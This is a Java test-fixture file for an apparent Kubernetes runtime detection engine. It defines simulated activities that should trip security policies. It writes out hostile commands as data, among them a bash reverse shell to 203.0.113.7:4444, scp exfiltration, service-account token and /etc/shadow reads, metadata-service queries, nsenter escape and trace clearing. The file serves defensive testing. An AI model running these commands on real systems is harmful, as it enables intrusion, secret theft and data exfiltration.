package dev.breakwater.engine.policy;

import static dev.breakwater.engine.policy.BuiltInPolicyCases.put;

import dev.breakwater.engine.model.Activity;
import dev.breakwater.engine.model.Activity.ApiRequest;
import dev.breakwater.engine.model.Activity.FileAccess;
import dev.breakwater.engine.model.Activity.FileAccess.Operation;
import dev.breakwater.engine.model.Activity.Flow;
import dev.breakwater.engine.model.Activity.ProcessRun;
import dev.breakwater.engine.model.Observed;
import dev.breakwater.engine.model.Text;
import java.util.List;
import java.util.function.Consumer;

/** What makes a sound workload violate the policies about what happens. */
final class RuntimePolicyCases {

    private static final Consumer<WorkloadFixture> UNWATCHED = w -> w.activity = Activity.NOT_WATCHED;

    private RuntimePolicyCases() {}

    static void putAll() {
        processes();
        requests();
    }

    private static Consumer<WorkloadFixture> process(
            String path, String arguments, List<String> ancestors, boolean expected, List<FileAccess> files) {
        return w -> w.activity = new Activity(
                Observed.known(List.of(new ProcessRun(
                        "web",
                        path.substring(path.lastIndexOf('/') + 1),
                        path,
                        Text.plain(arguments),
                        0,
                        ancestors,
                        Observed.known(expected),
                        Observed.known(files)))),
                Observed.known(List.of()),
                Observed.known(List.of()));
    }

    private static Consumer<WorkloadFixture> ran(String name, String arguments, String... ancestors) {
        return process("/usr/bin/" + name, arguments, List.of(ancestors), true, List.of());
    }

    private static Consumer<WorkloadFixture> odd() {
        return process("/usr/bin/id", "", List.of(), false, List.of());
    }

    private static Consumer<WorkloadFixture> started(String path) {
        return process(path, "", List.of(), true, List.of());
    }

    private static Consumer<WorkloadFixture> touched(String path, Operation operation) {
        return process("/usr/bin/tee", "", List.of(), true, List.of(new FileAccess(operation, path, "")));
    }

    private static Consumer<WorkloadFixture> connected() {
        return w -> w.activity = new Activity(
                Observed.known(List.of()),
                Observed.known(List.of(new Flow("203.0.113.7", false, 4444, "TCP", Observed.known(false)))),
                Observed.known(List.of()));
    }

    private static Consumer<WorkloadFixture> asked(String verb, String resource, String name, String user) {
        return w -> w.activity = new Activity(
                Observed.known(List.of()),
                Observed.known(List.of()),
                Observed.known(List.of(new ApiRequest(
                        verb,
                        resource,
                        "shop",
                        name,
                        user,
                        "bob",
                        List.of("system:masters"),
                        "kube-hunter/0.6",
                        List.of("192.0.2.1")))));
    }

    private static void processes() {
        put("Process out of the ordinary", odd(), UNWATCHED);
        put("Shell under a Java program", ran("sh", "-c id", "/opt/jdk/bin/java"), UNWATCHED);
        put("Shell under a web server", ran("bash", "-i", "/usr/sbin/nginx"), UNWATCHED);
        put("Shell under a database", ran("sh", "-c id", "/usr/lib/postgresql/17/bin/postgres"), UNWATCHED);
        put("Crypto miner run", ran("xmrig", ""), UNWATCHED);
        put("Mining pool contacted", ran("kworker", "-o stratum+tcp://pool.example:3333"), UNWATCHED);
        put("Package manager run (apk)", ran("apk", "add curl"), UNWATCHED);
        put("Package manager run (apt, dpkg)", ran("apt-get", "install curl"), UNWATCHED);
        put("Package manager run (rpm, dnf, zypper)", ran("microdnf", "install curl"), UNWATCHED);
        put("Language packages installed at run time", ran("pip", "install requests"), UNWATCHED);
        put("Compiler run", ran("gcc", "x.c"), UNWATCHED);
        put("Network scanner run", ran("nmap", "10.0.0.0/8"), UNWATCHED);
        put("Netcat or socat run", ran("nc", "-l 4444"), UNWATCHED);
        put("Reverse shell", ran("bash", "-i >& /dev/tcp/203.0.113.7/4444 0>&1"), UNWATCHED);
        put("Packet filter changed", ran("iptables", "-F"), UNWATCHED);
        put(
                "Packet filter of the node changed",
                ran("nft", "flush ruleset").andThen(w -> w.first().privileged = true),
                UNWATCHED);
        put("Network settings changed or listed", ran("ip", "route"), UNWATCHED);
        put("Traffic recorded", ran("tcpdump", "-i any"), UNWATCHED);
        put("Files copied between machines", ran("scp", "/data x@203.0.113.7:"), UNWATCHED);
        put("Shell to another machine", ran("ssh", "10.0.0.5"), UNWATCHED);
        put("Shell server run", ran("sshd", "-D"), UNWATCHED);
        put("Tunnel opened", ran("chisel", "client"), UNWATCHED);
        put("Download at run time", ran("curl", "https://x.example"), UNWATCHED);
        put("Kubelet asked", ran("curl", "-k https://10.0.0.1:10250/pods"), UNWATCHED);
        put("Container statistics of the node asked", ran("curl", "http://10.0.0.1:4194/containers"), UNWATCHED);
        put(
                "API of the cluster asked by hand",
                ran("curl", "https://10.96.0.1/api/v1/namespaces/shop/secrets"),
                UNWATCHED);
        put("kubectl run in a container", ran("kubectl", "get pods"), UNWATCHED);
        put(
                "Token of the account read by a tool",
                ran("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
                UNWATCHED);
        put("Metadata service of the cloud asked", ran("curl", "http://169.254.169.254/latest/meta-data"), UNWATCHED);
        put("Way to the node tried", ran("nsenter", "-t 1 -a"), UNWATCHED);
        put("Kernel module loaded", ran("insmod", "x.ko"), UNWATCHED);
        put("User added", ran("useradd", "x"), UNWATCHED);
        put("Group added", ran("groupadd", "x"), UNWATCHED);
        put("Account files edited", ran("passwd", "root"), UNWATCHED);
        put("Other user taken on", ran("su", "-"), UNWATCHED);
        put("Set-uid program run", ran("pkexec", "sh"), UNWATCHED);
        put("Process of root", ran("app", ""), UNWATCHED);
        put("Timer changed", ran("crontab", "-e"), UNWATCHED);
        put("Service changed", ran("systemctl", "start x"), UNWATCHED);
        put("System manager started", ran("systemd", ""), UNWATCHED);
        put("Traces removed", ran("sh", "-c history -c"), UNWATCHED);
        put("Secrets searched for", ran("grep", "-r password /app"), UNWATCHED);
        put("Program run from a temporary folder", started("/dev/shm/x"), UNWATCHED);
        put("Account files of the system changed", touched("/etc/passwd", Operation.RENAME), UNWATCHED);
        put("Keys for remote shells changed", touched("/root/.ssh/authorized_keys", Operation.CREATE), UNWATCHED);
        put("Timer files changed", touched("/etc/cron.d/x", Operation.CREATE), UNWATCHED);
        put("Loader of libraries changed", touched("/etc/ld.so.preload", Operation.CREATE), UNWATCHED);
        put("System programs changed", touched("/usr/bin/ls", Operation.RENAME), UNWATCHED);
        put("Password hashes read", touched("/etc/shadow", Operation.OPEN), UNWATCHED);
        put(
                "Release agent of control groups written",
                touched("/sys/fs/cgroup/rdma/release_agent", Operation.OPEN),
                UNWATCHED);
        put("Certificates of authorities changed", touched("/etc/ssl/certs/x.pem", Operation.CREATE), UNWATCHED);
        put("Connection out of the ordinary", connected(), UNWATCHED);
    }

    private static void requests() {
        put("Command run in a pod", asked("create", "pods/exec", "web", "alice"), UNWATCHED);
        put("Attached to a pod", asked("create", "pods/attach", "web", "alice"), UNWATCHED);
        put("Port of a pod forwarded", asked("create", "pods/portforward", "web", "alice"), UNWATCHED);
        put("Debug container put into a pod", asked("patch", "pods/ephemeralcontainers", "web", "alice"), UNWATCHED);
        put("Secret read in the name of another", asked("get", "secrets", "db", "alice"), UNWATCHED);
        put("Password of the first administrator read", asked("get", "secrets", "kubeadmin", "alice"), UNWATCHED);
        put("Secret of this platform read", asked("get", "secrets", "breakwater-admin", "alice"), UNWATCHED);
        put("Secrets listed by a person", asked("list", "secrets", "", "alice"), UNWATCHED);
        put("Request without a login", asked("get", "secrets", "db", "system:anonymous"), UNWATCHED);
        put("Roles of the cluster changed", asked("create", "clusterrolebindings", "x", "alice"), UNWATCHED);
        put(
                "Network policy removed or changed by a person",
                asked("delete", "networkpolicies", "x", "alice"),
                UNWATCHED);
        put("Request of the break-glass group", asked("get", "secrets", "db", "alice"), UNWATCHED);
        put("Tool of an intruder asks the API", asked("list", "secrets", "", "alice"), UNWATCHED);
    }
}
